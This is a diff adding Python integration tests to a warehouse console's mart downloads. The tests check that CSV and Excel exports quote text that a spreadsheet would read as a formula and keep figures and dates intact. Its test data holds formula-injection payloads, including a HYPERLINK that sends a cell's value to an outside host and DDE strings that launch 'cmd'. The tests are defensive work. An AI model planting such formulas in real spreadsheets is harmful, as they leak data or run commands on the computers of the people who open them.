@@ -23,11 +23,12 @@ from tests.conftest import fresh_warehouse
 from tests.integration.test_county_access import COUNTIES, Stages
 from tests.integration.test_report import division, indicator, store
 from tests.kit.console import Browser, Clock, browser_of, database_variables, links_of, served
-from tests.kit.nights import Nights, certify, publish, start_build
+from tests.kit.nights import Nights, certify, insert, publish, start_build
 from tests.kit.pictures import chromium, sign_in
 
 from employment_warehouse import publication, report, settings
 from employment_warehouse.alert.kinds import alert_kinds
+from employment_warehouse.console import mart_files
 from employment_warehouse.console.sessions import IDLE_SECONDS, LONGEST_SECONDS
 from employment_warehouse.console.wording import STEPS
 from employment_warehouse.contract.divisions import divisions
@@ -311,6 +312,69 @@ def test_an_analyst_downloads_a_mart(planted: psycopg.Connection) -> None:
     book = openpyxl.load_workbook(io.BytesIO(analyst.get("/marts/target_progress/rows.xlsx").content))
     assert [len(list(sheet.rows)) for sheet in book] == [len(rows)]
     assert "target_progress" in analyst.get("/marts?words=target_prog").text
+
+
+FORMULAS = (
+    '=HYPERLINK("http://e.cn/?"&A2,"查看")', "+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1",
+    "\r=1+1", "\n工程", "　＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
+)  # fmt: skip
+TEXTS = ("元阳县红河谷道路", "-5", "+12.50", "1=1", "'=1+1")
+
+
+@pytest.fixture
+def projects(warehouse: psycopg.Connection, nights: Nights) -> dict[str, str]:
+    """Relief projects, by number, with names that a spreadsheet would take for formulas, and with others."""
+    names = {f"P{at:02}": name for at, name in enumerate((*FORMULAS, *TEXTS))}
+    build = start_build("2024-05-01")
+    rows = [
+        {
+            "project_no": number, "county_code": "532528", "project_name": name, "relief_funds": "-5.50",
+            "planned_workers": 40, "started_on": "2024-03-01", "planned_completion_on": "1899-12-01",
+            "from_build": build,
+        }
+        for number, name in names.items()
+    ]  # fmt: skip
+    insert(warehouse, "store", "dim_relief_project", rows)
+    publish(build)
+    return names
+
+
+def test_no_text_of_a_csv_is_a_formula_and_figures_stay_as_they_are(console: FastAPI, projects: dict[str, str]) -> None:
+    text = browser_of("wh_analyst", console).get("/marts/dim_relief_project/rows.csv").content.decode("utf-8-sig")
+    rows = {row["project_no"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
+    assert {number: row["project_name"] for number, row in rows.items()} == {
+        number: f"'{name}" if name in FORMULAS else name for number, name in projects.items()
+    }
+    assert {(row["relief_funds"], row["started_on"], row["township_code"]) for row in rows.values()} == {
+        ("-5.50", "2024-03-01", "")
+    }
+
+
+def test_a_workbook_of_a_mart_has_numbers_days_and_quoted_texts(console: FastAPI, projects: dict[str, str]) -> None:
+    content = browser_of("wh_analyst", console).get("/marts/dim_relief_project/rows.xlsx").content
+    heads, *rows = openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()
+    at = {cell.value: cell.column - 1 for cell in heads}
+    names = {row[at["project_no"]].value: row[at["project_name"]] for row in rows}
+    assert {number: cell.value for number, cell in names.items()} == {
+        number: name.replace("\r", "_x000D_") for number, name in projects.items()
+    }
+    assert {(cell.data_type, cell.quotePrefix) for cell in names.values()} == {("s", True)}
+    for row in rows:
+        funds, began = row[at["relief_funds"]], row[at["started_on"]]
+        assert (funds.value, funds.data_type, row[at["planned_workers"]].value) == (-5.5, "n", 40)
+        assert (str(began.value), began.is_date, began.number_format) == ("2024-03-01 00:00:00", True, "yyyy-mm-dd")
+        assert (row[at["planned_completion_on"]].value, row[at["township_code"]].value) == ("1899-12-01", None)
+
+
+def test_a_mart_that_a_sheet_does_not_hold_is_refused(
+    console: FastAPI, projects: dict[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    analyst = browser_of("wh_analyst", console)
+    for rows, status in ((len(projects), 200), (len(projects) - 1, 409)):
+        monkeypatch.setattr(mart_files, "SHEET_ROWS", rows)
+        answer = analyst.get("/marts/dim_relief_project/rows.xlsx")
+        assert answer.status_code == status
+    assert all(part in answer.text for part in (f"超过 {len(projects) - 1} 行", "请下载 CSV"))
 
 
 def test_a_case_worker_explains_only_cases_of_the_county(planted: psycopg.Connection) -> None:
